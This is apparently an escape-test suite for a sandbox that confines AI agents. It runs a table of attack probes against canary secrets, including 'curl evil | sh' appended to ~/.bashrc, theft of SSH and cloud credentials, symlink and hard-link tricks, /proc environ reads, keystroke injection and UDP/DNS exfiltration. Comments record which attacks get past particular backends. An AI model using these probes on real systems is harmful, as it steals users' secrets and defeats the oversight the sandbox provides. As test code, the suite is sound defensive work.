package e2e

// The escape-test suite (reference/threats.md): a table of attacks, each run
// for real inside the sandbox through the real agent-sandbox binary, once per
// backend available on this host. An attack passes when its probe fails
// inside the sandbox, no canary shows up (in the output or on the host), and
// its legitimate neighbour still works inside the same sandbox. Every probe is
// also run once with --no-sandbox as a control: if the control fails, the
// probe proves nothing here and the attack is skipped, saying why.

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"

	"github.com/agent-sandbox/agent-sandbox/internal/landlock"
)

// backend is one way of running the suite.
type backend struct {
	name  string
	flags []string
	// alone says nono runs by itself, without the namespace view around
	// it (a host without user namespaces); "nono" runs nono inside the
	// view (nono-in-view), which the view's rows hold to the view's
	// results.
	alone bool
	// noUserns runs agent-sandbox on a simulated host without user
	// namespaces (weaker_test.go's noUserns): nono alone, or with weaker
	// the weaker sandbox (AGENT_SANDBOX_WEAKER_SANDBOX=1).
	noUserns, weaker bool
	// skip says why the backend cannot run here ("" when it can); it
	// fails the test instead where the backend must run (nono where
	// cargo can build it: nonoOrSkip).
	skip func(t *testing.T) string
}

var backends = []backend{
	{name: "landlock", flags: []string{"--sandbox-backend", "landlock"}, skip: func(*testing.T) string { return landlockMissing() }},
	{name: "nono", flags: []string{"--sandbox-backend", "nono"}, skip: func(t *testing.T) string {
		nonoOrSkip(t)
		return landlockMissing()
	}},
}

// landlockMissing says why the landlock backend cannot run here ("" when
// it can).
func landlockMissing() string {
	if runtime.GOOS != "linux" {
		return "the landlock backend is Linux-only"
	}
	if _, err := os.Stat("/sys/kernel/security/landlock"); err != nil {
		if _, _, errno := syscall.Syscall(444, 0, 0, 1); errno != 0 {
			return "this kernel has no Landlock (landlock_create_ruleset: " + errno.Error() + ")"
		}
	}
	return ""
}

// world is the throwaway machine state one backend's suite runs against.
type world struct {
	t      *testing.T
	bin    string // agent-sandbox
	root   string
	home   string
	work   string // the workdir (cwd of every run)
	folder string // an on-disk agent folder with open network (command /bin/sh)
	canary string // secret text seeded everywhere the agent must not reach
	flags  []string
	// wrap is a command prefix for agent-sandbox and env extra variables
	// (the weaker sandbox's simulated host: weaker_test.go's noUserns).
	wrap, extraEnv []string
	// extraFiles are left open for the next run only (as fd 3 on).
	extraFiles []*os.File
}

func newWorld(t *testing.T, bin string, flags []string) *world {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	w := &world{
		t: t, bin: bin, root: root, flags: flags,
		home:   filepath.Join(root, "home"),
		work:   filepath.Join(root, "work", "project"),
		folder: filepath.Join(root, "agents", "open"),
		canary: fmt.Sprintf("CANARY%dSECRET", time.Now().UnixNano()),
	}
	files := map[string]string{
		".ssh/id_ed25519":      w.canary,
		".aws/credentials":     "aws_secret_access_key = " + w.canary,
		".gnupg/private-keys":  w.canary,
		".netrc":               "machine x login y password " + w.canary,
		".config/gh/hosts.yml": "oauth_token: " + w.canary,
		".bashrc":              "# rc " + w.canary,
		"notes.txt":            w.canary,
		".local/state/agent-sandbox/agents/other/data": w.canary,
		".local/state/agent-sandbox/audit/shell.jsonl": w.canary,
	}
	for rel, body := range files {
		write(t, filepath.Join(w.home, rel), body+"\n")
	}
	write(t, filepath.Join(root, "work", "sibling", "README"), w.canary+"\n")
	write(t, filepath.Join(w.work, "README"), "project file\n")
	write(t, filepath.Join(w.folder, "agent.toml"), "command = \"/bin/sh\"\n")
	write(t, filepath.Join(w.folder, "sandbox", "nono.json"), "{}\n")
	return w
}

func write(t *testing.T, p, body string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

// env is the launching environment: a throwaway HOME and canary secrets.
func (w *world) env() []string {
	return withCover([]string{
		"HOME=" + w.home, "PATH=" + pathFor(w.flags), "SHELL=/bin/sh", "LANG=C.UTF-8",
		"GITHUB_TOKEN=" + w.canary, "AWS_SECRET_ACCESS_KEY=" + w.canary,
		"OPENAI_API_KEY=" + w.canary, "SSH_AUTH_SOCK=/tmp/" + w.canary,
	})
}

// run is one agent-sandbox invocation.
type run struct {
	code int
	out  string // stdout and stderr
}

// runAgent runs `agent-sandbox FLAGS AGENT -c SCRIPT` in the workdir.
// agent is "shell" (built-in, offline) or "open" (w.folder, open network).
func (w *world) runAgent(sandboxed bool, agent, script string, stdin *os.File) run {
	args := append([]string{}, w.flags...)
	if !sandboxed {
		args = []string{"--no-sandbox"}
	}
	if agent == "open" {
		agent = w.folder
	}
	args = append(args, agent, "-c", script)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	argv := append(append(append([]string{}, w.wrap...), w.bin), args...)
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.Dir = w.work
	cmd.Env = append(w.env(), w.extraEnv...)
	// Descriptors the caller leaves open (fd 3 on), for one run.
	cmd.ExtraFiles, w.extraFiles = w.extraFiles, nil
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if stdin != nil {
		cmd.Stdin = stdin
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	}
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		w.t.Fatalf("running agent-sandbox: %v", err)
	}
	return run{code, out.String()}
}

// vars is what an attack's setup hands to its probe and checks.
type vars map[string]string

// expand replaces @NAME (longest names first) with absolute values, so the
// probe names host paths exactly (HOME inside the sandbox may differ).
func expand(s string, v vars) string {
	keys := make([]string, 0, len(v))
	for k := range v {
		keys = append(keys, k)
	}
	for changed := true; changed; {
		changed = false
		for i := 1; i < len(keys); i++ {
			if len(keys[i]) > len(keys[i-1]) {
				keys[i], keys[i-1] = keys[i-1], keys[i]
				changed = true
			}
		}
	}
	for _, k := range keys {
		s = strings.ReplaceAll(s, "@"+k, v[k])
	}
	return s
}

// attack is one row of the table.
type attack struct {
	name  string
	class int // threats.md class
	// agent: "shell" (built-in, network blocked) or "open" (open network).
	agent string
	// probe must fail inside the sandbox; neighbour must succeed there.
	probe, neighbour string
	// neighbourAgent, when set, runs the neighbour with another agent
	// (for network probes: the same probe succeeds with an open network).
	neighbourAgent string
	// needs are programs the probe needs (see tool); python3 is named
	// @PYTHON in the probe.
	needs []string
	// pty runs the probe with a pseudo-terminal as stdin.
	pty bool
	// setup prepares host-side state (listeners, processes) and returns
	// variables for the probe; it runs before every run of the probe.
	setup func(t *testing.T, w *world) (vars, func() string)
	// noControl: the probe succeeds unsandboxed by construction (the
	// control would change the host); the neighbour proves the probe runs.
	noControl bool
	// landlockNeeds names what the landlock backend needs to stop this
	// attack: "netns" (UDP is confined only inside a private network
	// namespace) or "abi6" (signal and abstract-socket scoping). Without
	// it agent-sandbox warns on every run and the row is skipped, saying so.
	landlockNeeds string
	// judgedByHost: the probe may exit 0 inside the sandbox (a datagram
	// sent into the sandbox's own loopback is not an error); the attack
	// is judged by its effect on the host (setup's check) alone.
	judgedByHost bool
	// nono, when set, says why this attack SUCCEEDS under nono (measured
	// with nono 0.78.0; README, "Escape classes by backend"): the nono
	// row then pins that behaviour, failing when the attack stops
	// working there so that the README's table is updated.
	nono string
	// nonoRootOnly: the nono note holds only when the suite runs as root;
	// as an ordinary user the attack must fail under nono too.
	nonoRootOnly bool
	// weaker, when set, says why this attack SUCCEEDS under the weaker
	// sandbox (AGENT_SANDBOX_WEAKER_SANDBOX=1, no user namespaces),
	// measured and pinned as nono is.
	weaker string
}

// The table. @HOME, @WORK, @ROOT, @FOLDER, @CANARY and the setup's variables
// (@PID, @MARKER, @PORT, @ABSTRACT, and @PYTHON for rows that need python3)
// are replaced by absolute values.
var attacks = []attack{
	{name: "read ~/.ssh key", class: 1, agent: "shell",
		probe: `cat @HOME/.ssh/id_ed25519`, neighbour: `cat @WORK/README`},
	{name: "read a descriptor the caller left open", class: 6, agent: "shell",
		probe: `cat <&3`, neighbour: `cat @WORK/README`, setup: openSecretFD},
	{name: "signal the launcher's threads", class: 15, agent: "shell", needs: []string{"python3"},
		// $PPID is the agent's parent: agent-sandbox in the weaker
		// sandbox (whose thread that confined itself shares an outer
		// domain of the agent's), init in the view, nono under nono.
		// Signal 0 asks the permission and sends nothing.
		probe: `@PYTHON -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
nr = 234 if os.uname().machine == "x86_64" else 131
pp = int(sys.argv[1])
ok = [t for t in range(max(1, pp - 8), pp + 400) if libc.syscall(nr, ctypes.c_long(pp), ctypes.c_long(t), ctypes.c_long(0)) == 0]
print("signalled", pp, ok)
raise SystemExit(0 if ok else 1)' $PPID`,
		neighbour: `@PYTHON -c 'import os; os.kill(os.getpid(), 0)'`},
	{name: "send to a host datagram socket by path", class: 9, agent: "shell", needs: []string{"python3"},
		// SOCK_RAW too: the kernel makes a Unix SOCK_RAW socket a
		// datagram one (found by a review: the filter refused only
		// SOCK_DGRAM pairs).
		probe: `@PYTHON -c '
import socket
sent = 0
for ty in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        a, b = socket.socketpair(socket.AF_UNIX, ty)
        a.sendto(b"@CANARY", "@DGRAM"); sent += 1
    except OSError as e:
        print(ty, e)
raise SystemExit(0 if sent else 1)'`,
		neighbour: `@PYTHON -c '
import socket
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
a.send(b"x"); assert b.recv(1) == b"x"'`,
		setup: dgramListener, judgedByHost: true},
	{name: "attach the user's System V shared memory", class: 9, agent: "shell", needs: []string{"python3"},
		probe: `@PYTHON -c '
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
raise SystemExit(0 if libc.shmget(ctypes.c_int(@SHMKEY), ctypes.c_size_t(0), 0) >= 0 else 1)'`,
		neighbour: `@PYTHON -c 'import mmap; m = mmap.mmap(-1, 4096); m.write(b"x")'`,
		setup:     sysvSegment},
	{name: "read ~/.aws credentials", class: 1, agent: "shell",
		probe: `cat @HOME/.aws/credentials`, neighbour: `cat @WORK/README`},
	{name: "read ~/.gnupg", class: 1, agent: "shell",
		probe: `cat @HOME/.gnupg/private-keys`, neighbour: `ls @WORK`},
	{name: "read ~/.netrc", class: 1, agent: "shell",
		probe: `cat @HOME/.netrc`, neighbour: `cat @WORK/README`},
	{name: "read ~/.config/gh", class: 1, agent: "shell",
		probe: `cat @HOME/.config/gh/hosts.yml`, neighbour: `cat @WORK/README`},
	{name: "list the home directory", class: 1, agent: "shell",
		probe: `ls -a @HOME | grep -q notes.txt`, neighbour: `ls -a @WORK | grep -q README`},
	{name: "write into the home directory", class: 2, agent: "shell",
		probe: `echo x > @HOME/planted`, neighbour: `echo x > @WORK/written`,
		setup: absent("@HOME/planted")},
	{name: "append to ~/.bashrc", class: 2, agent: "shell",
		probe: `echo 'curl evil | sh' >> @HOME/.bashrc`, neighbour: `echo ok >> @WORK/README`,
		setup: unchanged("@HOME/.bashrc")},
	{name: "write /etc", class: 2, agent: "shell",
		probe: `echo x > /etc/agent-sandbox-escape-canary`, neighbour: `echo x > "$TMPDIR/ok"`,
		setup: absent("/etc/agent-sandbox-escape-canary")},
	{name: "write a sibling project", class: 2, agent: "shell",
		probe: `echo x >> @ROOT/work/sibling/README`, neighbour: `echo x >> @WORK/README`,
		setup: unchanged("@ROOT/work/sibling/README")},
	{name: "write another agent's state dir", class: 4, agent: "shell",
		probe: `echo x >> @HOME/.local/state/agent-sandbox/agents/other/data`, neighbour: `echo x > "$TMPDIR/mine"`,
		setup: unchanged("@HOME/.local/state/agent-sandbox/agents/other/data")},
	{name: "write the audit dir", class: 4, agent: "shell",
		probe: `echo x >> @HOME/.local/state/agent-sandbox/audit/shell.jsonl`, neighbour: `echo x > "$TMPDIR/mine"`,
		setup: unchanged("@HOME/.local/state/agent-sandbox/audit/shell.jsonl")},
	{name: "tamper with its own generated policy", class: 4, agent: "shell", noControl: true,
		probe: `echo '{"tampered": "@CANARY"}' > @HOME/.local/state/agent-sandbox/agents/shell/nono-profile.json`, neighbour: `echo x > "$TMPDIR/mine"`,
		setup: lacksCanary("@HOME/.local/state/agent-sandbox/agents/shell/nono-profile.json")},
	{name: "edit its own agent folder", class: 4, agent: "open",
		probe: `echo 'args = ["--evil"]' >> @FOLDER/agent.toml`, neighbour: `cat @FOLDER/agent.toml`,
		setup: unchanged("@FOLDER/agent.toml")},
	{name: "read through a symlink", class: 6, agent: "shell",
		probe:     `ln -sf @HOME/.ssh/id_ed25519 @WORK/leak && cat @WORK/leak`,
		neighbour: `ln -sf @WORK/README @WORK/link && cat @WORK/link`},
	{name: "write through a symlink", class: 6, agent: "shell",
		probe:     `ln -sf @HOME/.bashrc @WORK/rc && echo evil >> @WORK/rc`,
		neighbour: `ln -sf @WORK/README @WORK/rc2 && echo ok >> @WORK/rc2`,
		setup:     unchanged("@HOME/.bashrc")},
	{name: "hard-link a secret", class: 7, agent: "shell",
		probe: `ln -f @HOME/.ssh/id_ed25519 @WORK/k && cat @WORK/k`, neighbour: `ln -f @WORK/README @WORK/hl && cat @WORK/hl`},
	{name: "hard-link the read-only agent folder and write", class: 7, agent: "open",
		probe: `ln -f @FOLDER/agent.toml @WORK/hl2 && echo 'command = "evil"' >> @WORK/hl2`, neighbour: `ln -f @WORK/README @WORK/hl3`,
		setup: unchanged("@FOLDER/agent.toml")},
	{name: "read a host process's environ", class: 14, agent: "shell",
		probe: `cat /proc/@PID/environ`, neighbour: `head -1 /proc/cpuinfo`,
		setup: hostProcess, nono: nonoProcEnviron, nonoRootOnly: true},
	{name: "read a host process's cmdline", class: 15, agent: "shell",
		probe: `cat /proc/@PID/cmdline | grep -a @MARKER`, neighbour: `head -1 /proc/cpuinfo`,
		setup: hostProcess, nono: nonoProc},
	{name: "signal a host process", class: 15, agent: "shell", landlockNeeds: "abi6",
		probe: `kill -TERM @PID`, neighbour: `sleep 30 & kill $!`,
		setup: hostProcess},
	{name: "connect to an abstract Unix socket", class: 9, agent: "open", needs: []string{"python3"}, landlockNeeds: "abi6",
		probe:     `@PYTHON -c 'import socket; s=socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect("\0@ABSTRACT"); s.send(b"@CANARY")'`,
		neighbour: `@PYTHON -c 'import socket; a,b=socket.socketpair(); a.send(b"x"); assert b.recv(1)==b"x"'`,
		setup:     abstractListener},
	{name: "TCP to a host loopback service (offline)", class: 10, agent: "shell", needs: []string{"python3"},
		probe:          `@PYTHON -c 'import socket; s=socket.create_connection(("127.0.0.1", @PORT), 3); s.send(b"@CANARY")'`,
		neighbourAgent: "open", setup: tcpListener},
	{name: "UDP datagram out (offline)", class: 11, agent: "shell", needs: []string{"python3"}, landlockNeeds: "netns",
		probe:          `@PYTHON -c 'import socket,time; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); [s.sendto(b"@CANARY", ("127.0.0.1", @PORT)) or time.sleep(0.05) for _ in range(5)]'`,
		neighbourAgent: "open", setup: udpListener, judgedByHost: true, weaker: weakerUDP},
	{name: "DNS query out (offline)", class: 11, agent: "shell", needs: []string{"python3"}, landlockNeeds: "netns",
		probe:          `@PYTHON -c 'import socket; q=b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06canary\x04test\x00\x00\x01\x00\x01"; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); [s.sendto(q, ("127.0.0.1", @PORT)) for _ in range(3)]'`,
		neighbourAgent: "open", setup: udpListener, judgedByHost: true, weaker: weakerUDP},
	{name: "inject keystrokes with TIOCSTI", class: 17, agent: "shell", needs: []string{"python3"}, pty: true,
		probe:     `@PYTHON -c 'import fcntl,termios; fcntl.ioctl(0, termios.TIOCSTI, b"x")'`,
		neighbour: `@PYTHON -c 'import os; assert os.isatty(0)'`},
	{name: "read another terminal of the user", class: 18, agent: "shell", pty: true,
		probe:     `head -c 6 @OTHERPTY`,
		neighbour: `tty | grep -q /dev/pts/ && stty size >/dev/null`,
		setup:     otherTerminal,
		nono:      "nono's system_read_linux_core group grants /dev/pts read-write, so every terminal of the user is readable"},
	{name: "read secrets from the environment", class: 14, agent: "shell", noControl: true,
		probe:     `env | grep -q @CANARY || grep -aq @CANARY /proc/self/environ`,
		neighbour: `test -n "$HOME" && test -n "$PATH"`},
	{name: "gain privileges (no_new_privs)", class: 16, agent: "shell", noControl: true,
		probe:     `while read k v; do [ "$k" = NoNewPrivs: ] && [ "$v" = 0 ] && exit 0; done < /proc/self/status; exit 1`,
		neighbour: `while read k v; do [ "$k" = NoNewPrivs: ] && [ "$v" = 1 ] && exit 0; done < /proc/self/status; exit 1`},
}

// nonoProc is why host processes' /proc entries are readable under nono.
const nonoProc = "nono has no PID namespace and Landlock does not restrict another process's /proc/<pid> (nono documents process_info_mode as a no-op on Linux): the agent reads every process of the user (all of them as root)"

// weakerUDP is why UDP gets out of the weaker sandbox.
const weakerUDP = "the weaker sandbox has no network namespace and this kernel's Landlock has no UDP rules (ABI 10): UDP and DNS reach the host, and agent-sandbox warns so on every such run"

// nonoProcEnviron is why a host process's environment is readable under
// nono when the agent runs as root (measured: as an ordinary user the read
// is refused, EACCES, by Landlock's ptrace restriction).
const nonoProcEnviron = "nono has no PID namespace: as root the agent reads the environment of every host process (as an ordinary user Landlock's ptrace restriction refuses it)"

// absent checks that a host file does not exist after the probe.
func absent(p string) func(*testing.T, *world) (vars, func() string) {
	return func(t *testing.T, w *world) (vars, func() string) {
		path := expand(p, w.vars())
		os.Remove(path)
		return nil, func() string {
			if _, err := os.Lstat(path); err == nil {
				os.Remove(path)
				return path + " was created"
			}
			return ""
		}
	}
}

// lacksCanary checks that a host file (which may exist) never holds the
// canary after the probe.
func lacksCanary(p string) func(*testing.T, *world) (vars, func() string) {
	return func(t *testing.T, w *world) (vars, func() string) {
		path := expand(p, w.vars())
		return nil, func() string {
			if b, _ := os.ReadFile(path); bytes.Contains(b, []byte(w.canary)) {
				os.Remove(path)
				return path + " was overwritten by the agent"
			}
			return ""
		}
	}
}

// unchanged checks that a host file keeps its content.
func unchanged(p string) func(*testing.T, *world) (vars, func() string) {
	return func(t *testing.T, w *world) (vars, func() string) {
		path := expand(p, w.vars())
		before, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		return nil, func() string {
			after, _ := os.ReadFile(path)
			if !bytes.Equal(before, after) {
				os.WriteFile(path, before, 0o644)
				return path + " was changed"
			}
			return ""
		}
	}
}

// hostProcess starts a process outside the sandbox with a canary in its
// environment and a marker in its command line; the check fails if it was
// signalled. It runs in a process group of its own, which the cleanup
// kills whole: killing only the shell left its `sleep 600` behind, one per
// row and backend (issue 23 item 11).
func hostProcess(t *testing.T, w *world) (vars, func() string) {
	marker := "MARKER" + strconv.FormatInt(time.Now().UnixNano(), 36)
	cmd := exec.Command("/bin/sh", "-c", "sleep 600; : "+marker)
	cmd.Env = []string{"SECRET=" + w.canary}
	// A process group of its own: the cleanup ends the shell's sleep too
	// (killing the shell alone left the sleep running for ten minutes).
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	t.Cleanup(func() { syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL); <-done })
	return vars{"PID": strconv.Itoa(cmd.Process.Pid), "MARKER": marker}, func() string {
		select {
		case <-done:
			return "the host process was killed"
		case <-time.After(100 * time.Millisecond):
			return ""
		}
	}
}

// listener records whether anything reached it.
func recorder(t *testing.T, accept func() ([]byte, error)) func() string {
	got := make(chan []byte, 16)
	go func() {
		for {
			b, err := accept()
			if err != nil {
				return
			}
			got <- b
		}
	}()
	return func() string {
		select {
		case b := <-got:
			return fmt.Sprintf("the host listener was reached (%q)", b)
		case <-time.After(300 * time.Millisecond):
			return ""
		}
	}
}

// otherTerminal opens a pseudo-terminal standing for another of the user's
// terminals, with "typed" input waiting in it.
func otherTerminal(t *testing.T, w *world) (vars, func() string) {
	ptmx, tty, err := pty.Open()
	if err != nil {
		t.Skipf("cannot open a pseudo-terminal: %v", err)
	}
	t.Cleanup(func() { ptmx.Close(); tty.Close() })
	ptmx.Write([]byte(w.canary + "\n"))
	return vars{"OTHERPTY": tty.Name()}, func() string { return "" }
}

func tcpListener(t *testing.T, w *world) (vars, func() string) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	check := recorder(t, func() ([]byte, error) {
		c, err := l.Accept()
		if err != nil {
			return nil, err
		}
		defer c.Close()
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		b := make([]byte, 64)
		n, _ := c.Read(b)
		return append([]byte("connection:"), b[:n]...), nil
	})
	return vars{"PORT": strconv.Itoa(l.Addr().(*net.TCPAddr).Port)}, check
}

func udpListener(t *testing.T, w *world) (vars, func() string) {
	c, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	check := recorder(t, func() ([]byte, error) {
		b := make([]byte, 512)
		n, _, err := c.ReadFrom(b)
		return b[:n], err
	})
	return vars{"PORT": strconv.Itoa(c.LocalAddr().(*net.UDPAddr).Port)}, check
}

func abstractListener(t *testing.T, w *world) (vars, func() string) {
	name := fmt.Sprintf("agent-sandbox-canary-%d", time.Now().UnixNano())
	l, err := net.Listen("unix", "@"+name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	check := recorder(t, func() ([]byte, error) {
		c, err := l.Accept()
		if err != nil {
			return nil, err
		}
		// Read what the client sends before closing: closing at once made
		// the unsandboxed control's send race the close and fail with
		// EPIPE (BrokenPipeError) in about 3 of 7 runs.
		defer c.Close()
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		b := make([]byte, 64)
		n, _ := c.Read(b)
		return append([]byte("connection:"), b[:n]...), nil
	})
	return vars{"ABSTRACT": name}, check
}

func (w *world) vars() vars {
	return vars{"HOME": w.home, "WORK": w.work, "ROOT": w.root, "FOLDER": w.folder, "CANARY": w.canary}
}

// TestEscapes runs the table against every backend available here.
func TestEscapes(t *testing.T) {
	if testing.Short() {
		t.Skip("the escape suite runs the real binary many times; it is skipped with -short (nix build's check phase) and runs in go test ./...")
	}
	bin := buildAgentSandbox(t)
	for _, b := range backends {
		t.Run(b.name, func(t *testing.T) {
			if why := b.skip(t); why != "" {
				t.Skip(why)
			}
			for _, a := range attacks {
				t.Run(a.name, func(t *testing.T) {
					if b.name == "landlock" {
						skipUnlessKernelHas(t, a.landlockNeeds)
					}
					runAttack(t, newWorld(t, bin, b.flags), a)
				})
			}
		})
	}
	// The built-in engine's weaker sandbox (AGENT_SANDBOX_WEAKER_SANDBOX=1:
	// Landlock, seccomp and no_new_privs, no namespace view) on a host
	// without user namespaces, simulated as weaker_test.go does: measured
	// for the README's table ("Escape classes by backend"); the rows where
	// it differs from the view pin its behaviour (attack.weaker).
	// nono alone: nono on a host without user namespaces (no view to
	// run it in) and without the weaker sandbox accepted. The rows where
	// it differs from the view pin its behaviour (attack.nono); under
	// "nono" above, nono runs inside the view and holds every row.
	t.Run("nono-alone", func(t *testing.T) {
		nonoOrSkip(t)
		prefix := noUserns(t)
		for _, a := range attacks {
			t.Run(a.name, func(t *testing.T) {
				w := newWorld(t, bin, []string{"--sandbox-backend", "nono"})
				w.wrap = prefix
				runAttack(t, w, a)
			})
		}
	})
	t.Run("landlock-weaker", func(t *testing.T) {
		if why := landlockMissing(); why != "" {
			t.Skip(why)
		}
		prefix := noUserns(t)
		for _, a := range attacks {
			t.Run(a.name, func(t *testing.T) {
				w := newWorld(t, bin, []string{"--sandbox-backend", "landlock"})
				w.wrap, w.extraEnv = prefix, []string{"AGENT_SANDBOX_WEAKER_SANDBOX=1"}
				runAttack(t, w, a)
			})
		}
	})
}

// skipUnlessKernelHas skips a landlock row whose protection this kernel
// cannot give (agent-sandbox prints a warning on every such run).
func skipUnlessKernelHas(t *testing.T, need string) {
	switch need {
	case "netns":
		if !landlock.UserNamespacesAvailable() {
			t.Skip("unprivileged user namespaces are unavailable here: the landlock backend blocks TCP only and warns that UDP and DNS are not confined")
		}
	case "abi6":
		if abi, _ := landlock.ABI(); abi < 6 {
			t.Skipf("Landlock ABI %d has no signal or abstract-socket scoping (ABI 6, Linux 6.12): the landlock backend warns on every run", abi)
		}
	}
}

func runAttack(t *testing.T, w *world, a attack) {
	tools := vars{}
	for _, n := range a.needs {
		p, why := tool(n)
		if p == "" {
			t.Skipf("needs %s: %s", n, why)
		}
		if n == "python3" {
			tools["PYTHON"] = p
		}
	}
	once := func(sandboxed bool, agent, script string) (run, string) {
		v := w.vars()
		for k, x := range tools {
			v[k] = x
		}
		check := func() string { return "" }
		if a.setup != nil {
			extra, c := a.setup(t, w)
			for k, x := range extra {
				v[k] = x
			}
			check = c
		}
		var stdin *os.File
		if a.pty {
			ptmx, tty, err := pty.Open()
			if err != nil {
				t.Skipf("cannot open a pseudo-terminal: %v", err)
			}
			defer ptmx.Close()
			defer tty.Close()
			go func() {
				b := make([]byte, 256)
				for {
					if _, err := ptmx.Read(b); err != nil {
						return
					}
				}
			}()
			stdin = tty
		}
		r := w.runAgent(sandboxed, agent, expand(script, v), stdin)
		return r, check()
	}

	if !a.noControl {
		r, _ := once(false, a.agent, a.probe)
		if r.code != 0 {
			if a.pty {
				if b, _ := os.ReadFile("/proc/sys/dev/tty/legacy_tiocsti"); strings.TrimSpace(string(b)) == "0" {
					t.Skip("TIOCSTI is disabled on this host (dev.tty.legacy_tiocsti=0): the attack cannot work even unsandboxed")
				}
			}
			t.Skipf("control: the probe fails even with --no-sandbox, so it proves nothing here (exit %d): %s", r.code, r.out)
		}
	}

	r, effect := once(true, a.agent, a.probe)
	engine, gap := "", ""
	switch {
	case a.nono != "" && nonoSelected(w.flags) && len(w.wrap) > 0 && (!a.nonoRootOnly || os.Geteuid() == 0):
		engine, gap = "nono alone", a.nono
	case a.weaker != "" && len(w.wrap) > 0 && !nonoSelected(w.flags):
		engine, gap = "the weaker sandbox", a.weaker
	}
	if gap != "" {
		// The backend's own behaviour, pinned: the attack gets through
		// (for a row judged by the host, the host saw it).
		if succeeded := effect != "" || (r.code == 0 && !a.judgedByHost); !succeeded {
			t.Errorf("under %s this attack used to succeed (%s) and now fails (exit %d): update the row's note and the README's table (Escape classes by backend): %s", engine, gap, r.code, r.out)
		} else {
			t.Logf("%s's behaviour, pinned: the attack succeeds: %s", engine, gap)
		}
		r, effect = once(true, a.agent, a.neighbour)
		if r.code != 0 {
			t.Errorf("the legitimate neighbour failed inside the sandbox (exit %d): %s", r.code, r.out)
		}
		return
	}
	if r.code == 0 && !a.judgedByHost {
		t.Errorf("attack succeeded inside the sandbox (exit 0): %s", r.out)
	}
	if r.code == 125 {
		t.Errorf("agent-sandbox refused to run (exit 125), so the attack was never tried: %s", r.out)
	}
	if strings.Contains(r.out, w.canary) {
		t.Errorf("the canary leaked into the output: %s", r.out)
	}
	if effect != "" {
		t.Errorf("the attack had an effect on the host: %s", effect)
	}

	nAgent, nScript := a.agent, a.neighbour
	if a.neighbourAgent != "" {
		nAgent, nScript = a.neighbourAgent, a.probe
	}
	r, effect = once(true, nAgent, nScript)
	if r.code != 0 {
		t.Errorf("the legitimate neighbour failed inside the sandbox (exit %d): %s", r.code, r.out)
	}
	if a.neighbourAgent != "" && effect == "" {
		t.Errorf("with an open network the same probe did not reach the host listener; the blocked result proves nothing")
	}
}

// openSecretFD leaves ~/.ssh/id_ed25519 open as the launcher's fd 3 for
// the next run (`agent-sandbox ... 3<~/.ssh/id_ed25519`): no backend may
// hand it to the agent.
func openSecretFD(t *testing.T, w *world) (vars, func() string) {
	f, err := os.Open(filepath.Join(w.home, ".ssh", "id_ed25519"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	w.extraFiles = []*os.File{f}
	return nil, func() string { return "" }
}

// dgramListener binds a Unix datagram socket in the world's root (outside
// every grant), as journald's /run/systemd/journal/socket, and records
// what reaches it.
func dgramListener(t *testing.T, w *world) (vars, func() string) {
	path := filepath.Join(w.root, "dgram.sock")
	os.Remove(path)
	c, err := net.ListenUnixgram("unixgram", &net.UnixAddr{Name: path, Net: "unixgram"})
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(path, 0o777)
	t.Cleanup(func() { c.Close(); os.Remove(path) })
	check := recorder(t, func() ([]byte, error) {
		b := make([]byte, 512)
		n, _, err := c.ReadFrom(b)
		return b[:n], err
	})
	return vars{"DGRAM": path}, check
}

// sysvSegment makes a System V shared memory segment of the test's user
// (mode 0600, as a desktop program's), removed after the test.
func sysvSegment(t *testing.T, w *world) (vars, func() string) {
	key := 0x5a000000 | (os.Getpid() & 0xffffff)
	id, _, errno := syscall.Syscall(syscall.SYS_SHMGET, uintptr(key), 4096, uintptr(0o600|0o1000 /* IPC_CREAT */))
	if errno != 0 {
		t.Fatalf("shmget: %v", errno)
	}
	t.Cleanup(func() { syscall.Syscall(syscall.SYS_SHMCTL, id, 0 /* IPC_RMID */, 0) })
	return vars{"SHMKEY": strconv.Itoa(key)}, func() string { return "" }
}
